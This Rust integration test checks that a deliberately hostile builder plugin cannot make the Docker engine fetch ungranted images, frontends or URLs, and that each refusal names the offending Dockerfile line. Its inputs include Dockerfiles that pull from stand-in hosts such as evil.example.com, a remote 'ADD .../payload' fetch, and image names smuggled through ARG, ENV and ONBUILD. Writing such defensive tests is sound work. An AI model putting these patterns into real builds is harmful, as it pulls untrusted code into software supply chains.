//! Issue 10, class 3: what a builder's build may make the engine fetch,
//! through the hostile builder (`tests/plugins/hostile-builder`, mode
//! `dockerfile`) against the real engine of `scripts/services.sh start`:
//! base images (`FROM`, multi-stage, `--platform`, ARG-substituted names),
//! `COPY --from=<image>`, `# syntax=` and `ADD <url>` only from what the
//! builder is granted, the job's own repository, or (for Docker Hub-shaped
//! names) images the engine already has; refused before the engine sees
//! the build, naming the line and the image.

mod common;

use bollard::Docker;
use bollard::query_parameters::{RemoveImageOptions, TagImageOptions};
use common::docker::{docker, services};
use launch_agent::plugins::LoadedPlugin;
use serde_json::json;
use std::path::Path;
use std::sync::Arc;

/// A repository in the test registry no other test (or run) uses.
fn unique_repo(test: &str) -> String {
    format!(
        "{}/launch-agent-test/{test}-{}",
        services().registry,
        uuid::Uuid::new_v4().simple()
    )
}

/// Removes the images (tags) given, ignoring those already gone.
async fn remove_images(docker: &Docker, images: &[String]) {
    for image in images {
        let _ = docker
            .remove_image(
                image,
                Some(RemoveImageOptions {
                    force: true,
                    ..Default::default()
                }),
                None,
            )
            .await;
    }
}

/// Tags the base test image as `image` (`repository:tag`).
async fn tag_base_as(docker: &Docker, image: &str) {
    let (repo, tag) = image.rsplit_once(':').unwrap();
    docker
        .tag_image(
            &services().base_image,
            Some(TagImageOptions {
                repo: Some(repo.to_string()),
                tag: Some(tag.to_string()),
            }),
        )
        .await
        .unwrap_or_else(|e| panic!("tagging {image}: {e}"));
}

/// Loads the hostile builder with `grants_yaml` (a flow mapping).
async fn hostile_builder(dir: &Path, grants_yaml: &str) -> Arc<LoadedPlugin> {
    let wasm = common::test_plugin("hostile-builder");
    let yaml = format!(
        "plugins:\n  hostile-builder:\n    path: {}\n    grants: {grants_yaml}\n",
        wasm.display()
    );
    let config =
        launch_agent::config::LaunchConfig::parse(&yaml, Path::new("t.yaml")).expect("config");
    let mut host = launch_agent::plugins::PluginHost::new(&dir.join("cache"), 128).unwrap();
    host.load(
        "hostile-builder",
        &wasm,
        &config.plugins["hostile-builder"],
        &config.secrets,
    )
    .await
    .expect("load hostile-builder")
}

/// Has `plugin` build `dockerfile` with `args` (and `platform`) for the
/// planned image `image`: the error's text, or `Ok`.
async fn build(
    plugin: &LoadedPlugin,
    image: &str,
    dockerfile: &str,
    args: serde_json::Value,
    platform: &str,
) -> Result<(), String> {
    use launch_agent::plugins::bindings::Job;
    let request = launch_agent::plugins::loaded::BuildRequest {
        job: Job {
            id: "fetches".into(),
            queue: "q".into(),
            spec_json: "{}".into(),
        },
        settings: json!({"mode": "dockerfile", "dockerfile": dockerfile, "args": args, "platform": platform})
            .to_string(),
        destination: String::new(),
        source_dir: None,
        source_id: "fetches".into(),
    };
    let plan = launch_agent::plugins::loaded::BuildPlan {
        image_uri: image.into(),
        dockerfile: String::new(),
        dockerfile_origin: "test".into(),
    };
    plugin
        .build(&request, &plan, None, None, None)
        .await
        .map(|_| ())
        .map_err(|e| e.to_string())
}

#[tokio::test]
async fn base_images_come_only_from_grants_the_jobs_repository_or_the_engine() {
    let docker = docker().await;
    let dir = tempfile::tempdir().unwrap();
    let base = &services().base_image;
    let repo = unique_repo("fetches");
    let image = format!("{repo}:v1");
    let own_base = format!("{repo}:base");
    tag_base_as(&docker, &own_base).await;
    // An image of the test registry the engine has locally (as another
    // job's private image would be).
    let registry_image = format!("{}:v1", unique_repo("private-base"));
    tag_base_as(&docker, &registry_image).await;
    let plugin = hostile_builder(dir.path(), "{ docker: true }").await;

    let refused: Vec<(String, serde_json::Value, &str, &str, String)> = vec![
        // (Dockerfile, build args, platform, line, what the refusal names)
        (
            "FROM 127.0.0.1:1/evil:1\n".into(),
            json!({}),
            "",
            "line 1",
            "127.0.0.1:1/evil:1".into(),
        ),
        (
            format!("FROM {registry_image}\nRUN true\n"),
            json!({}),
            "",
            "line 1",
            registry_image.clone(),
        ),
        (
            format!(
                "FROM {base} AS a\nRUN true\n\nFROM evil.example.com/x:1 AS b\nCOPY --from=a /bin /bin\n"
            ),
            json!({}),
            "",
            "line 4",
            "evil.example.com/x:1".into(),
        ),
        (
            "ARG BASE=evil.example.com/arg:1\nFROM ${BASE}\n".into(),
            json!({}),
            "",
            "line 2",
            "evil.example.com/arg:1".into(),
        ),
        (
            format!("ARG BASE={base}\nFROM $BASE\n"),
            json!({"BASE": "evil.example.com/override:1"}),
            "",
            "line 2",
            "evil.example.com/override:1".into(),
        ),
        (
            format!("FROM --platform=linux/arm64 {base}\n"),
            json!({}),
            "",
            "line 1",
            "linux/arm64".into(),
        ),
        (
            format!("FROM {base}\n"),
            json!({}),
            "linux/s390x",
            "line 1",
            "linux/s390x".into(),
        ),
        (
            format!("FROM {base}\nCOPY --from=evil.example.com/y:1 /a /b\n"),
            json!({}),
            "",
            "line 2",
            "evil.example.com/y:1".into(),
        ),
        (
            format!("# syntax=evil.example.com/frontend:1\nFROM {base}\n"),
            json!({}),
            "",
            "line 1",
            "evil.example.com/frontend:1".into(),
        ),
        (
            "FROM launch-agent-test/never-pulled:1\n".into(),
            json!({}),
            "",
            "line 1",
            "no copy".into(),
        ),
        (
            format!("FROM {base}\nADD http://127.0.0.1:1/payload /p\n"),
            json!({}),
            "",
            "line 2",
            "http://127.0.0.1:1/payload".into(),
        ),
        (
            format!("FROM {base}\nONBUILD COPY --from=evil.example.com/z:1 /a /b\n"),
            json!({}),
            "",
            "line 2",
            "evil.example.com/z:1".into(),
        ),
        (
            format!("FROM {base}\nENV I=evil.example.com/z:1\nCOPY --from=$I /a /b\n"),
            json!({}),
            "",
            "line 3",
            "variable".into(),
        ),
    ];
    for (dockerfile, args, platform, line, names) in &refused {
        let e = build(&plugin, &image, dockerfile, args.clone(), platform)
            .await
            .expect_err(&format!("{dockerfile:?} is refused"));
        assert!(
            e.contains("docker build refused") && e.contains(line) && e.contains(names.as_str()),
            "{dockerfile:?}: {e}"
        );
        assert!(
            docker.inspect_image(&image).await.is_err(),
            "{dockerfile:?}: nothing was built"
        );
    }

    // Stages, the engine's own copy of a Hub-shaped image, and the job's own
    // repository are fine.
    let allowed = [
        format!(
            "FROM {base} AS deps\nRUN true\nFROM deps\nCOPY --from=deps /bin/sh /sh2\nCOPY --from=0 /bin/sh /sh3\n"
        ),
        format!("FROM --platform=linux/amd64 {base}\nRUN true\n"),
        format!("FROM {own_base}\nRUN true\n"),
        "FROM scratch\nCOPY --from=".to_string() + base + " /bin/sh /sh\n",
    ];
    for dockerfile in &allowed {
        build(&plugin, &image, dockerfile, json!({}), "")
            .await
            .unwrap_or_else(|e| panic!("{dockerfile:?}: {e}"));
        remove_images(&docker, std::slice::from_ref(&image)).await;
    }

    // The registry's image is fine once the registry is granted.
    let granted = hostile_builder(
        dir.path(),
        &format!(
            "{{ docker: true, hosts: [\"http://{}\"] }}",
            services().registry
        ),
    )
    .await;
    build(
        &granted,
        &image,
        &format!("FROM {registry_image}\nRUN true\n"),
        json!({}),
        "",
    )
    .await
    .expect("a granted registry's image");
    remove_images(&docker, &[image, own_base, registry_image]).await;
}
